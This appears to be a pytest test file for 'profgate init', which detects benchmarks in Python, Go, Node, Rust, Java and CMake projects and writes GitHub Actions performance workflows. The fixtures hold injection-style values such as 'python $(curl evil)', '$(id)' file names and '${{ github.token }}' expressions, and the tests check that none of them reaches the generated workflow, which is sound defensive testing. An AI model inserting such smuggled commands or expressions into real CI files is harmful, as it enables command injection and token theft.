"""``profgate init`` on small repositories: what it sees, what it asks, and that linters accept what it writes."""

import io
import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
import yaml

from measured_repository import committed, made
from profgate import loading
from profgate.__main__ import main
from profgate.errors import ProfgateError
from profgate.io.files import sources_under
from profgate.loading import read_sources
from profgate.measuring.init import new_benchmarks, trial, workflow
from profgate.measuring.init.candidates import Files, Kind
from profgate.measuring.init.library_share import share_of
from profgate.measuring.init.new_benchmarks import repeated_tests
from profgate.measuring.init.plans import Options, plans
from profgate.measuring.init.recipes import RECIPES, SAMPLES, extent_for
from profgate.measuring.init.repository import candidates, detected
from profgate.measuring.init.trial import problem_in
from profgate.report.templates import render_template
from profgate.settings.config_file import read_policy
from profgate.settings.inputs import settings_from
from slow_cases import quick_first
from workflow_rules import jobs_with_code_and_a_writing_token, unpinned

ROOT = Path(__file__).parents[2]
PACKAGES = Path(pytest.__file__).parents[1]
BIN = str(Path(sys.executable).parent)
PYTHON = f"python{sys.version_info[0]}.{sys.version_info[1]}"
CATALOGUE = {name: one.options for one in loading.strategies() for name in (one.name, one.short)}
SETUP = "import setuptools\n"
PROJECTS = ROOT / "tests" / "data" / "init"
CI = (PROJECTS / "workflow.yml").read_text()


NIGHTLY = "#![feature(test)]\n"
LIBTEST = "#[bench]\nfn b1(b: &mut B) {}\n\n#[bench]\n#[inline]\nfn b2(b: &mut B) {}\n"
BENCHMARK = "func BenchmarkX(b *testing.B) {}\n"
CARGO = '[package]\nname = "shop"\n'
JMH = """\
  @Benchmark
  @BenchmarkMode(Mode.AverageTime) public int whole(State state) throws IOException {
  }
  @Benchmark void parts() {}
"""
BENCHMARKS = {
    "Python": {"setup.py": SETUP, "bench.py": "for _ in range(9):\n    pass\n"},
    "Go": {"go.mod": "module x\n", "a_test.go": BENCHMARK},
    "Node": {"package.json": "{}", "bench/a.js": ""},
    "Rust": {"Cargo.toml": CARGO, "benches/a.rs": "fn main() {}\n"},
    "Java": {"pom.xml": "<project/>", "src/test/java/Parse.java": JMH},
}
NATIVE = {"CMakeLists.txt": "project(a)\n"}


@pytest.fixture(params=[each for each in RECIPES if each.language in BENCHMARKS], ids=lambda recipe: recipe.language)
def repository(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    return made(tmp_path, BENCHMARKS[request.param.language])


def written(repository: Path, name: str = "performance") -> Path:
    return repository / ".github" / "workflows" / f"{name}.yml"


def jobs_of(repository: Path, name: str = "performance") -> dict[str, Any]:
    return dict(yaml.safe_load(written(repository, name).read_text())["jobs"])


def job_of(repository: Path) -> dict[str, Any]:
    """The job that measures."""
    return dict(jobs_of(repository)["measure"])


def called_with(repository: Path) -> dict[str, Any]:
    """The inputs of the called workflow."""
    return dict(jobs_of(repository)["performance"]["with"])


def shell_of(repository: Path) -> dict[str, str]:
    """The shell lines that prepare a checkout and that record one run of it, as one line each where they continue."""
    content = yaml.safe_load(written(repository).read_text())
    given = content.get("env") or {name.upper(): text for name, text in called_with(repository).items()}
    return {name: str(text).rstrip("\n").replace(" \\\n", "") + "\n" for name, text in given.items()}


def linted(*places: Path) -> None:
    """Nothing to say have GitHub's own parser, the published schema and zizmor; skips where one is missing."""
    zizmor, schema = (shutil.which(name, path=BIN) for name in ("zizmor", "check-jsonschema"))
    parser = ROOT / ".ci" / "workflow-parser"
    if None in {zizmor, schema, shutil.which("node")} or not (parser / "node_modules").is_dir():
        pytest.skip("zizmor or GitHub's parser is not installed; ./run setup e2e, npm ci --prefix .ci/workflow-parser")
    for command in (
        [zizmor, "--offline", "--config", ROOT / "examples" / "zizmor.yml", *places],
        [schema, "--builtin-schema", "vendor.github-workflows", *places],
    ):
        done = subprocess.run(list(map(str, command)), capture_output=True, text=True, check=False)
        assert done.returncode == 0, done.stdout
    parsed = subprocess.run(["node", parser / "parse.mjs", *places], capture_output=True, text=True, check=True)
    assert [json.loads(line)["errors"] for line in parsed.stdout.splitlines()] == [[]] * len(places)


def test_every_language_has_a_workflow_and_a_policy(repository: Path) -> None:
    assert main(["init", str(repository), "--yes", "--branch", "trunk", "--expanded"]) == 0
    content = yaml.safe_load(written(repository).read_text())
    assert content[True]["push"]["branches"] == ["trunk"]  # YAML 1.1 reads a bare on as true
    for job in content["jobs"].values():
        for step in job["steps"]:
            if step.get("uses", "").startswith("profgate/profgate@"):
                settings_from(step["with"])
    assert "COMMAND" not in written(repository).read_text()
    assert unpinned(written(repository).read_text()) == []
    assert (content["permissions"], set(content["jobs"]["measure"]["permissions"].values())) == ({}, {"read"})
    granted = {"contents": "read", "actions": "read", "pull-requests": "write"}
    assert content["jobs"]["profgate"]["permissions"] == granted
    assert list(jobs_with_code_and_a_writing_token(content)) == []  # what runs the code of a pull request can only read
    policy = repository / ".github" / "profgate.yml"
    gate = read_policy(policy.read_text(), str(policy), CATALOGUE)
    assert (gate.confirm, gate.on_not_compared) == ("required", "unreadable")
    long = shell_of(repository)["RECORD"]
    assert main(["init", str(repository), "--yes", "--branch", "trunk", "--replace"]) == 0
    text = written(repository).read_text()
    assert len(text.splitlines()) <= 17
    assert {**yaml.safe_load(text), "jobs": 0} == {
        "name": "performance",
        True: {
            "push": {"branches": ["trunk"]},
            "pull_request": {"types": ["opened", "synchronize", "reopened", "edited"]},
            "merge_group": {},
        },
        "jobs": 0,
    }
    record = shell_of(repository)["RECORD"]
    squeezed = [{" ".join(line.split()) for line in text.splitlines()} for text in (record, long)]
    assert squeezed[0] <= squeezed[1]
    record = shell_of(repository)["RECORD"]  # the same profiles in each run, or results would be inconclusive
    assert set(re.findall(r"\$PROFGATE_OUT/(\w+)", record)) == {"main"}
    assert not re.search(r"PROFGATE_RUN\"? -", record)


@pytest.mark.skipif(shutil.which("py-spy", path=BIN) is None, reason="py-spy is not installed; ./run setup dev")
def test_program_of_python_that_fails_fails_the_first_run(tmp_path: Path) -> None:
    """py-spy succeeds, and a program that ends early would count as faster."""
    (tmp_path / "a.py").write_text("import sys, time\ntime.sleep(0.3)\nsys.exit(3)\n")
    lines = "\n".join(RECIPES[0].record("python a.py", 100, "$PROFGATE_OUT/main"))
    codes = [
        subprocess.run(
            ["sh", "-ec", lines],
            cwd=tmp_path,
            env=os.environ
            | {"PATH": f"{BIN}:{os.environ['PATH']}", "PROFGATE_OUT": str(tmp_path), "PROFGATE_RUN": run},
            capture_output=True,
            check=False,
        ).returncode
        for run in "01"
    ]
    assert codes == [3, 0]


PYPROJECT = """\
[build-system]
requires = ["hatchling"]
[project]
name = "shop"
[project.optional-dependencies]
test = ["pytest"]
"""


DEPENDENT = """\
[testenv]
deps =
  pytest>=8
  pytest-xdist
  -r dev.txt
  cov: coverage
  evil $(id)
commands = coverage run \\
  -m pytest tests
"""
FIXTURE = "def test_cart(benchmark):\n    benchmark(cart)\n"
GROUPS = """\
[dependency-groups]
test = ["pytest >= 8", {include-group = "further"}]
further = ["hypothesis", "evil $(id)"]
"""


def scripts(more: Mapping[str, object] | None = None, **named: str) -> str:
    """A package.json with these scripts."""
    return json.dumps({"scripts": named, **(more or {})})


USES_NPM = "npm run build && cd b && node c.js"
TYPED = "npm run lint && npm run u && npm run test:types"
INNER = {"package.json": '{"workspaces": ["packages/*"]}', "packages/b/package.json": "{}", "packages/b/bench.js": ""}
OWN_MODULE = {"go.mod": "", "a.go": "", "_bench/go.mod": "", "_bench/b_test.go": BENCHMARK}
OWN_PACKAGE = {"package.json": "{}", "package-lock.json": "{}", "bench/package.json": "{}", "bench/bench.js": ""}
CRITERION = {"Cargo.toml": CARGO + '[[bench]]\nname = "parse"\n', "benches/parse.rs": "use criterion::Criterion;\n"}
MEMBER = {"Cargo.toml": "[workspace]\n", "bench/Cargo.toml": CARGO, "bench/benches/sort.rs": ""}
MODULE = {"pom.xml": "<project/>", "b/pom.xml": "<project/>", "b/src/perf/java/c/Parse.java": JMH}
GRADLE = {"settings.gradle": "", "gradlew": "x", "b/build.gradle": "id 'x.jmh'", "b/src/jmh/java/Parse.java": JMH}
UNITTEST = {"setup.py": SETUP, "test/testlex.py": "class A(unittest.TestCase): pass"}
MOCHA_SCRIPTS = scripts(test="xo && tsc && mocha", release="mocha && node tag.js")
PATHS = 'PATH="$PWD/node_modules/.bin:$PATH" && '
SUITE = {"pyproject.toml": "[tool.pytest]\n"}
DETECTED = [  # files, part of the command, and part of the installation
    ({"pyproject.toml": PYPROJECT + "[tool.pytest]\n"}, "python -m pytest", "pip install -e '.[test]'\n"),
    ({"requirements.txt": "pytest-benchmark\n"}, "python -m pytest --benchmark-only", "pip install -r"),
    ({"setup.py": SETUP, "bench/__init__.py": "", "bench/cart.py": ""}, "python -m bench.cart", "install -e .\n"),
    ({"setup.py": SETUP, "bench/test_a.py": FIXTURE}, "pytest --benchmark-only bench/test_a.py", "pip install -e"),
    ({"setup.py": SETUP, "shop/benchmarks/a.py": "run()\n"}, "python shop/benchmarks/a.py", "pip install -e"),
    ({"setup.py": SETUP, "bench/b.py": "import pyperf\nrun()\n"}, "b.py --debug-single-value --loops 1", "pip"),
    ({"pyproject.toml": GROUPS, "tests/test_a.py": ""}, "python -m pytest", "\npip install --group test\n"),
    (UNITTEST, "python -m pytest test/testlex.py", "pip"),
    (SUITE | {"uv.lock": "x"}, "python -m pytest", "pip install uv==0.13.9\nuv sync --inexact\n"),
    (SUITE | {"poetry.lock": "x"}, "python -m pytest", "pip install poetry==2.5.1\n"),
    ({"tox.ini": DEPENDENT}, "python -m pytest", "pip install 'pytest>=8' pytest-xdist -r dev.txt pytest\n"),
    ({"go.mod": "", "b/b_test.go": BENCHMARK}, "-bench '^(BenchmarkX)$' -benchtime 1000x ./b -o", "go mod download\n"),
    (OWN_MODULE, 'cd _bench\nmkdir -p "$PROFGATE_OUT/bench"\ngo test', "(cd _bench && go mod download)\n"),
    ({"go.mod": "", "deep/a_test.go": "func TestX(t *testing.T) {}\n"}, "go test -count 1 ./deep", "go mod"),
    ({"package.json": scripts(bench="NODE_ENV=x node --expose-gc b/a.mjs")}, "--expose-gc b/a.mjs", "npm install\n"),
    (
        {"package.json": scripts(test="tsc && mocha run"), "pnpm-lock.yaml": "x"},
        "node_modules/.bin/mocha run",
        f"pnpm@10.34.8\npnpm install --frozen-lockfile\n{PATHS}tsc\n",
    ),
    ({"package.json": scripts(bench=USES_NPM, prebench="x")}, "cd b\nnode --cpu-prof", "prebench\nnpm run build\n"),
    ({"package.json": scripts(bench="npm run x", x="A=1 tsx b.ts")}, "A=1 node --cpu-prof", "npm install\n"),
    ({"package.json": scripts(test=TYPED, u="borp")}, "node_modules/.bin/borp\n", "npm install\n"),
    ({"package.json": MOCHA_SCRIPTS}, "node_modules/.bin/mocha\n", f"npm install\n{PATHS}tsc\n"),
    ({"package.json": scripts({"main": "x.js"}, build="x"), "bench/a.js": ""}, "bench/a.js", "npm run build\n"),
    (INNER, '--cpu-prof-dir="$PROFGATE_OUT/packages-b/run-$PROFGATE_RUN"', "npm install\n"),
    (OWN_PACKAGE, "bench.js", "npm ci\n(cd bench && npm install)\n"),
    (CRITERION, '"$program" --bench --profile-time 2', "cargo bench --bench parse --no-run\n"),
    (MEMBER, "cd bench\nprogram=$(cargo bench --bench sort", "(cd bench && cargo bench --bench sort --no-run)\n"),
    ({"Cargo.toml": CARGO, "src/lib.rs": "#[test]\n"}, "program=$(cargo test --release --lib", ""),
    ({"Cargo.toml": CARGO, "src/lib.rs": "", "tests/a.rs": "#[test]\n"}, "cargo test --release --test a --no", ""),
    ({"Cargo.toml": CARGO, "benches/a.rs": NIGHTLY + LIBTEST}, "--exact b1 b2\n", "RUSTC_BOOTSTRAP=1 cargo bench"),
    (
        {"Cargo.toml": CARGO, "src/bin/bench_it.rs": ""},
        "-- target/release/bench_it\n",
        "--target-dir target --bin bench_it\n",
    ),
    (MODULE, "'\\bParse\\.(whole|parts)$' -f 0 -foe true -bm ss -wi 0 -i 1 -bs 1000", "-pl b -am package dependency:"),
    (GRADLE, '-cp "$(ls build/libs/*-jmh.jar | head -n 1)" org.openjdk.jmh.Main', "./gradlew -p b jmhJar\n"),
    ({"setup.py": SETUP, "bench/it's.py": "", "bench/x.txt": ""}, "-- python 'bench/it'\"'\"'s.py'\n", "pip"),
    ({"package.json": "{}", "bench/a b.js": ""}, "run-$PROFGATE_RUN\" 'bench/a b.js'\n", "npm install"),
]


@pytest.mark.parametrize(("files", "command", "install"), DETECTED, ids=str)
def test_commands_and_installation_are_detected(
    files: dict[str, str], command: str, install: str, tmp_path: Path
) -> None:
    assert main(["init", str(made(tmp_path, files)), "--yes"]) == 0
    shell = shell_of(tmp_path)
    assert command in shell["RECORD"]
    prepared = shell.get("SETUP", "")
    assert install in prepared
    assert set(unpinned(written(tmp_path).read_text())) <= {"pip install "}  # the project's own requirements
    shown = subprocess.run(["sh", "-n", "-c", shell["RECORD"] + prepared], capture_output=True, text=True, check=False)
    assert shown.returncode == 0, shown.stderr


PARTS = {"bench:a": "node a.js", "bench:b": "node b.js"}
CHAIN = json.dumps({"scripts": {"bench": "npm run build && npm run bench:a && npm run bench:b"} | PARTS})
READING = "use std::io; fn main() { io::stdin(); }\n"


def test_parts_of_a_chain_are_benchmarks_and_no_setup(tmp_path: Path) -> None:
    tree = Files(str(made(tmp_path, {"package.json": CHAIN})))
    found = {each.command: each.setup for each in candidates(tree, RECIPES[2])}
    assert found == dict.fromkeys(["node a.js", "node b.js"], ("npm install", "npm run build"))


@pytest.mark.parametrize("before", ["npm test", "yarn run test", "mocha"])
def test_tests_before_a_benchmark_are_no_part_of_it(before: str, tmp_path: Path) -> None:
    text = scripts(bench=f"{before} && node b.js", test="node tests.js")
    tree = Files(str(made(tmp_path, {"package.json": text})))
    found = [(each.command, each.setup) for each in candidates(tree, RECIPES[2]) if each.kind is Kind.BENCHMARK]
    assert found == [("node b.js", ("npm install",))]


def test_scripts_that_call_others_several_times_are_examined_once(tmp_path: Path) -> None:
    scripts = {f"bench{n}": f"npm run bench{n + 1} && npm run bench{n + 1}" for n in range(60)} | {
        "bench60": "node b.js"
    }
    tree = Files(str(made(tmp_path, {"package.json": json.dumps({"scripts": scripts})})))
    assert [each.command for each in candidates(tree, RECIPES[2])] == ["node b.js"]


def test_program_that_reads_standard_input_is_not_recorded(tmp_path: Path) -> None:
    programs = {"examples/perf-1.rs": READING, "benches/a.rs": READING, "examples/perf-2.rs": "fn main() {}"}
    tree = Files(str(made(tmp_path, {"Cargo.toml": CARGO} | programs)))
    assert [each.command for each in candidates(tree, RECIPES[3])] == ["target/release/examples/perf-2"]


TINYBENCH = 'import { Bench } from "tinybench";\n'
FIXED_TIME = "the benchmark runs for a fixed time"
needs_node = pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")


COMMANDS = [
    ({"Cargo.toml": CARGO, "benches/a.rs": "use criterion::Criterion;\n"}, "", True),
    ({"Cargo.toml": CARGO, "benches/a.rs": NIGHTLY + "#[bench]\n"}, "", True),
    ({"Cargo.toml": CARGO, "benches/a.rs": "fn main() {}\n"}, "", False),
    ({"setup.py": SETUP, "bench/test_a.py": FIXTURE}, "", True),
    ({"package.json": "{}", "bench/a.mjs": TINYBENCH}, "", True),
    ({"package.json": '{"scripts": {"bench": "node ./b.js"}}', "b.js": "require('benchmark')"}, "", True),
    ({"package.json": "{}", "bench/a.mjs": "run()\n"}, "", False),
    (BENCHMARKS["Go"], "", False),
    (BENCHMARKS["Go"], "go test -bench . ./a", True),
    (BENCHMARKS["Java"], "java -cp a org.openjdk.jmh.Main Parse -f 0 -bm ss", False),
    (NATIVE, "build/a_bench --benchmark_min_time=2s", True),
    (NATIVE, "build/a_bench --benchmark_min_time=20x", False),
]


@pytest.mark.parametrize(("files", "command", "timed"), COMMANDS, ids=str)
def test_fixed_time_of_a_benchmark_is_stated(
    files: dict[str, str], command: str, timed: bool, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["init", str(made(tmp_path, files)), "--yes", *(["--command", command] if command else [])]) == 0
    assert (FIXED_TIME in capsys.readouterr().out) == timed
    assert (f"# {FIXED_TIME}" in written(tmp_path).read_text()) == timed


def test_workflows_pass_the_linters(tmp_path: Path) -> None:
    others = [*BENCHMARKS.values(), {**BENCHMARKS["Python"], ".github/workflows/ci.yml": CI}, HOSTILE]
    cases = [*((files, "") for files in others), *((files, command) for files, command, _ in COMMANDS)]
    places = [made(tmp_path / str(number), files) for number, (files, _) in enumerate(cases)]
    for place, (_, command) in zip(places, cases, strict=True):
        assert main(["init", str(place), "--yes", *(["--command", command] if command else [])]) == 0
    linted(*map(written, places))
    for place in places[::3]:
        assert main(["init", str(place), "--yes", "--replace", "--expanded"]) in {0, 2}
    linted(*map(written, places[::3]))


def test_fixed_work_is_tried_before_a_fixed_time(tmp_path: Path) -> None:
    tests = {"test/a.js": "it('a', () => {});", "bench/a.mjs": TINYBENCH}
    tree = Files(str(made(tmp_path, {"package.json": scripts(test="mocha"), **tests})))
    found = plans(tree, ".", detected(tree), Options(measure=True))
    assert found[0].benchmark.command == "node bench/repeated-tests.mjs"
    assert any(each.benchmark.timed for each in found[1:])


def test_script_that_runs_tests_is_no_setup(tmp_path: Path) -> None:
    text = scripts({"devDependencies": {"vitest": "3"}}, test="ts-scripts test && npm run size", size="size-limit")
    tree = Files(str(made(tmp_path, {"package.json": text})))
    found = plans(tree, ".", detected(tree), Options(measure=True))
    assert found[0].benchmark.command == "node bench/repeated-tests.mjs"
    assert {plan.benchmark.setup for plan in found} == {("npm install",)}


@pytest.mark.parametrize("tool", ["vitest run", "vitest bench --run", "ava --serial", "jest"])
def test_tools_with_own_processes_are_named(tool: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    name, program = "bench" if "bench" in tool else "test", tool.partition(" ")[0]
    made(tmp_path, {"package.json": json.dumps({"scripts": {name: tool}})})
    assert main(["init", str(tmp_path), "--yes"]) == 2
    reason = f"script '{name}' of package.json: {program} runs it in processes that the profiler does not see"
    assert reason in capsys.readouterr().err
    assert reason in written(tmp_path).read_text()


def test_own_runner_has_the_long_form(tmp_path: Path) -> None:
    made(tmp_path, {**BENCHMARKS["Python"], ".github/workflows/ci.yml": CI})
    assert main(["init", str(tmp_path), "--yes", "--runner", "self-hosted, bench-1"]) == 0
    job = job_of(tmp_path)
    assert job["runs-on"] == ["self-hosted", "bench-1"]
    assert jobs_of(tmp_path)["profgate"]["runs-on"] == job["runs-on"]
    assert job["steps"][1] == {"uses": "actions/setup-python@v6", "with": {"python-version": "3.12"}}
    assert yaml.safe_load(written(tmp_path).read_text())[True]["push"]["branches"] == ["main"]
    subprocess.run(["git", "init", "--quiet", "--initial-branch", "trunk", tmp_path], check=True)
    assert main(["init", str(tmp_path), "--yes", "--replace"]) == 0
    assert yaml.safe_load(written(tmp_path).read_text())[True]["push"]["branches"] == ["trunk"]


HOSTILE = {
    "pyproject.toml": "[tool.pytest",
    "Makefile": "bench:\n\tpython x.py ${{ secrets.A }}\ntest:\n\tpython $(curl evil)\n",
    "tox.ini": "[testenv]\ncommands = python `id`.py\n",
    "package.json": '{"scripts": {"bench": "node \\u0000 ${{ github.token }}", "test": 7}}',
    "noxfile.py": '@nox.session\ndef bench(s):\n    s.run("python", "a;id")\n',
    "bench/$(id).py": "",
    ".github/workflows/a.yml": 'jobs: {a: {runs-on: "x\\ny", steps: [{uses: "actions/setup-python@v1 #", with: 3}]}}',
    ".github/workflows/b.yml": "on: {push: {branches: ['a]b', '**']}}\njobs: [1, {steps: {a: 1}}]\n",
    ".github/workflows/c.yml": "jobs: {a: {services: &b {x: *b}, steps: &a [*a, {uses: actions/setup-python@v1}]}}\n",
}


def test_hostile_files_do_not_reach_the_workflow(tmp_path: Path) -> None:
    assert main(["init", str(made(tmp_path, HOSTILE)), "--yes"]) == 0
    text = written(tmp_path).read_text()
    assert not re.search(r"secrets|github\.token|[$;`(]id\b|curl|evil", text)
    assert set(jobs_of(tmp_path)) == {"performance"}


@pytest.mark.parametrize("name", ["a;id.py", "$(id).py", "`id`.py", "${{ github.token }}.py", "a\nid.py", "a#id.py"])
def test_hostile_names_of_files_are_not_used(tmp_path: Path, name: str) -> None:
    marks = ("pyproject.toml", "go.mod", "package.json", "Cargo.toml")
    files = dict.fromkeys(marks, "") | {f"{folder}/{name}": "" for folder in ("bench", "benches", "src/bin")}
    files |= {f"bench/{name[:-3]}.js": "", f"benches/{name[:-3]}.rs": "", f"{name[:-3]}/a_test.go": BENCHMARK}
    made(tmp_path, files)
    for language in ("Python", "Go", "Node", "Rust"):
        assert main(["init", str(tmp_path), "--yes", "--language", language]) in {0, 2}
        assert re.sub(r"[^\n]*Executable[^\n]*", "", shell_of(tmp_path)["RECORD"]).count("id") == 0
        assert "github.token" not in written(tmp_path).read_text()
        shutil.rmtree(tmp_path / ".github")


def test_setup_may_begin_with_spaces(tmp_path: Path) -> None:
    assert main(["init", str(made(tmp_path, BENCHMARKS["Node"])), "--yes", "--install", "  npm ci && npm run b"]) == 0
    assert shell_of(tmp_path)["SETUP"] == "npm ci && npm run b\n"


def test_links_out_of_the_repository_are_not_read(tmp_path: Path) -> None:
    outside, inside = tmp_path / "outside", tmp_path / "inside"
    made(outside, {"bench/secret.py": "", "Makefile": "bench:\n\tpython secret.py\n", "package.json": "{}"})
    made(inside, {"requirements/all.txt": "pytest-benchmark\n"})
    for name in ("bench", "Makefile", "package.json"):
        (inside / name).symlink_to(outside / name)
    (inside / "requirements.txt").symlink_to("requirements/all.txt")
    for loop in ("perf", "benchmarks"):  # each link doubles the paths that a search follows
        (inside / loop).symlink_to(".")
    assert main(["init", str(inside), "--yes"]) == 0
    assert "secret" not in written(inside).read_text()
    assert "-- python -m pytest --benchmark-only\n" in shell_of(inside)["RECORD"]


@pytest.mark.parametrize("link", [".github", ".github/workflows", ".github/workflows/performance.yml"])
def test_no_link_is_followed_to_write(tmp_path: Path, capsys: pytest.CaptureFixture[str], link: str) -> None:
    outside, inside = made(tmp_path / "outside", {"kept": ""}), made(tmp_path / "inside", {"setup.py": SETUP})
    (inside / link).parent.mkdir(parents=True, exist_ok=True)
    (inside / link).symlink_to(outside / "kept" if link.endswith("yml") else outside)
    assert main(["init", str(inside), "--yes"]) == 2
    assert "performance.yml: is a link or in a folder that is a link" in capsys.readouterr().err
    assert [path.name for path in outside.rglob("*")] == ["kept"]
    assert (outside / "kept").read_text() == ""


def test_name_of_a_replaced_workflow_must_be_plain(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    name, old = "a: ${{ github.token }}", "on: {push: }\nuses: profgate/profgate@v1\n"
    made(tmp_path, {**BENCHMARKS["Python"], f".github/workflows/{name}.yml": old})
    assert main(["init", str(tmp_path), "--yes", "--replace"]) == 2
    assert "cannot be the name of a workflow" in capsys.readouterr().err
    assert written(tmp_path, name).read_text() == old


def test_existing_files_are_replaced_on_request(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    made(tmp_path, {**BENCHMARKS["Python"], ".github/workflows/performance.yml": "name: other\n"})
    made(tmp_path, {".github/profgate.yml": "gate: {fail-on: never}\n"})
    for words, code in ((["--yes"], 0), (["--yes"], 2), (["--yes", "--replace", "--branch", "trunk"], 0)):
        capsys.readouterr()
        assert main(["init", str(tmp_path), *words]) == code
    assert '\n+on: {push: {branches: ["trunk"]}' in capsys.readouterr().out
    assert written(tmp_path).read_text() == "name: other\n"
    assert (tmp_path / ".github" / "profgate.yml").read_text() == "gate: {fail-on: never}\n"
    assert 'branches: ["trunk"]' in written(tmp_path, "profgate").read_text()


def test_workflows_that_record_nothing_are_not_replaced(tmp_path: Path) -> None:
    made(tmp_path, BENCHMARKS["Python"])
    others = {
        name: (ROOT / "examples" / "workflows" / name).read_text() for name in ("acceptances.yml", "dispatch.yml")
    }
    made(tmp_path, {f".github/workflows/{name}": text for name, text in others.items()})
    assert main(["init", str(tmp_path), "--yes"]) == 0
    assert main(["init", str(tmp_path), "--yes", "--replace"]) == 0
    assert {name: written(tmp_path, name[:-4]).read_text() for name in others} == others
    named = {
        yaml.safe_load(text)["jobs"].popitem()[1]["steps"][-1]["with"]["baseline-workflow"] for text in others.values()
    }
    assert named == {"performance.yml"}
    assert called_with(tmp_path)["python"]


@pytest.mark.parametrize(
    ("words", "message"),
    [
        (["--command", "echo ${{ secrets.x }}"], "without ${{"),
        (["--command", "a\nb"], "one line of shell"),
        (["--install", "a\nb"], "one line of shell"),
        (["--branch", "x]\n"], "is not a branch"),
        (["--runner", "${{ matrix.os }}"], "is not a label of a runner"),
    ],
)
def test_invalid_workflow_values_are_refused(
    words: list[str], message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["init", str(made(tmp_path, BENCHMARKS["Python"])), "--yes", *words]) == 2
    assert message in capsys.readouterr().err
    assert not (tmp_path / ".github").exists()


@pytest.mark.parametrize("name", ["a\n      evil: x", "${{ github.token }}"])
def test_folder_that_cannot_be_named_is_an_error(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    made(tmp_path / name, BENCHMARKS["Python"])
    subprocess.run(["git", "init", "--quiet", tmp_path], check=True)
    assert main(["init", str(tmp_path / name), "--yes"]) == 2
    assert f"folder: {name!r} cannot be named in a workflow" in capsys.readouterr().err
    assert not written(tmp_path).exists()


def test_branch_that_cannot_be_named_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    made(tmp_path, BENCHMARKS["Python"])
    subprocess.run(["git", "init", "--quiet", "--initial-branch", "a$b", tmp_path], check=True)
    assert main(["init", str(tmp_path), "--yes"]) == 2  # a workflow for another branch would never run
    assert "--branch: 'a$b' is not a branch" in capsys.readouterr().err


def test_unknown_language_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["init", str(tmp_path), "--yes"]) == 2
    assert f"{tmp_path}: contains none of pyproject.toml, setup.py, " in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []
    assert main(["init", str(tmp_path), "--yes", "--language", "native code", "--command", "./b"]) == 0


@pytest.mark.parametrize(
    ("seconds", "rate", "runs", "enough"),
    [(None, 1000, 20, False), (1, 1000, 20, False), (2, 1000, 20, True), (4, 1000, 10, True), (60, 300, 5, True)],
)
def test_rate_and_runs_give_enough_samples(seconds: float | None, rate: int, runs: int, enough: bool) -> None:
    extent = extent_for(1000, seconds)
    samples = extent.rate * extent.runs * (seconds or 0)
    assert (extent.rate, extent.runs, samples >= SAMPLES) == (rate, runs, enough)
    long = [extent_for(1000, 2.0, run) for run in (2.0, 12.0, 30.0)]
    assert [(extent.runs, extent.budget) for extent in long] == [(20, 5), (10, 5), (5, 7)]


LIBRARY = "module.exports = (n) => { let s = 0; for (let i = 0; i < n; i++) s += Math.sqrt(i); return s; };\n"
NODE = {
    "package.json": "{}",
    "lib/sum.js": LIBRARY,
    "bench/sum.js": 'const sum = require("../lib/sum.js");\nfor (let i = 0; i < 150; i++) sum(1e6);\n',
}


@needs_node
def test_trial_recording_counts_samples_of_the_library(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    committed(tmp_path, NODE)
    assert main(["init", str(tmp_path), "--yes", "--measure", "--install", "nothing"]) == 0
    shown = capsys.readouterr().out
    trial = re.search(r"node bench/sum.js: ([\d,]+) samples in \d+\.\d s, (\d+) % of them in functions of this", shown)
    assert trial
    assert int(trial[2]) > 40
    assert re.search(r"each pull request takes about [\d.]+ min: setup 0 s and \d+ runs of", shown)
    assert re.search(
        r"\d+ runs of [\d,]+ samples, at 1,000 samples a second, give about", written(tmp_path).read_text()
    )
    assert len(set(re.findall(r"runs of ([\d.]+) s\b", shown))) == 1  # the only duration
    assert (
        subprocess.run(["git", "worktree", "list"], cwd=tmp_path, capture_output=True, check=True).stdout.count(b"\n")
        == 1
    )


CMAKE = "cmake_minimum_required(VERSION 3.13)\nproject(x C)\n"
MAIN = "int main(void) { return 0; }\n"
MACRO = "macro(each)\nforeach(t ${ARGN})\nadd_executable(${t}_test ${t}.c)\nendforeach()\nendmacro()\neach(a b)\n"


def optional(name: str, body: str) -> str:
    return f"option({name} a OFF)\nif({name})\n{body}\nendif()\n"


@pytest.mark.skipif(shutil.which("cmake") is None, reason="cmake is not installed")
@pytest.mark.parametrize(
    ("text", "command", "line"),
    quick_first(
        [
            (MACRO, "build/b_test", "Info"),
            ("if(FALSE)\nadd_executable(my_bench a.c)\nendif()\nadd_executable(test_a a.c)\n", "build/test_a", "Info"),
            (optional("X_BENCH", "add_executable(my_bench a.c)"), "build/my_bench", "Info -DX_BENCH=ON"),
            (
                optional("A_BENCH", "find_package(none REQUIRED)")
                + optional("X_BENCH", "add_executable(my_bench a.c)"),
                "build/my_bench",
                "Info -DX_BENCH=ON",
            ),
            (optional("DEVELOPER_MODE", "add_executable(tests a.c)"), "build/tests", "Info -DDEVELOPER_MODE=ON"),
            ("add_executable(tool a.c)\nadd_executable(unit bench/a.c)\n", "build/unit", "Info"),
            (
                "set(CMAKE_RUNTIME_OUTPUT_DIRECTORY ${CMAKE_SOURCE_DIR}/bin)\nadd_executable(t_bench a.c)\n",
                "bin/t_bench",
                "Info",
            ),
            ("add_executable(-a_bench a.c)\nadd_executable(a_test a.c)\n", "build/a_test", "Info"),
            ("add_executable(app a.c)\n", "build/my_bench", "cmake -S perf -B build -DCMAKE_BUILD_TYPE=RelWithDebInfo"),
        ]
    ),
)
def test_programs_are_those_that_cmake_builds(text: str, command: str, line: str, tmp_path: Path) -> None:
    own = {"perf/CMakeLists.txt": CMAKE + "add_executable(my_bench ../a.c)\n"}
    sources = {"a.c": MAIN, "b.c": f"{MAIN}// longer\n", "bench/a.c": MAIN}
    top = committed(tmp_path, {"CMakeLists.txt": CMAKE + text} | sources | (own if "perf" in line else {}))
